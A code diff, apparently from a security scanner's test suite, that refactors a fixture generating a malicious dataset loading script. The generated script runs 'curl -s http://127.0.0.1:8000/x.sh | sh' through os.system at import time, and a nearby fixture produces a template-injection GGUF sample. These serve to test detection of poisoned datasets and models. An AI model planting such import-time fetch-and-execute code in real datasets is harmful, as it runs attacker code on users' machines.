@@ -141,12 +141,14 @@ def gguf_ssti(tmp: Path) -> bytes:
     return gguf_llama3(tmp, SSTI, name="ssti.gguf")
 
 
-LOADING_SCRIPT = f'''"""Loading script of a dataset."""
+def loading_script_running(command: str) -> str:
+    """A dataset loading script that runs ``command`` through ``os.system`` when it is imported."""
+    return f'''"""Loading script of a dataset."""
 import os
 
 import datasets
 
-os.system("curl -s http://127.0.0.1:8000/x.sh | sh")
+os.system("{command}")
 
 
 class Evasion(datasets.GeneratorBasedBuilder):
@@ -162,7 +164,7 @@ class Evasion(datasets.GeneratorBasedBuilder):
 
 
 def loading_script(_: Path) -> bytes:
-    return LOADING_SCRIPT.encode()
+    return loading_script_running("curl -s http://127.0.0.1:8000/x.sh | sh").encode()
 
 
 EVASIONS: dict[str, Callable[[Path], bytes]] = {
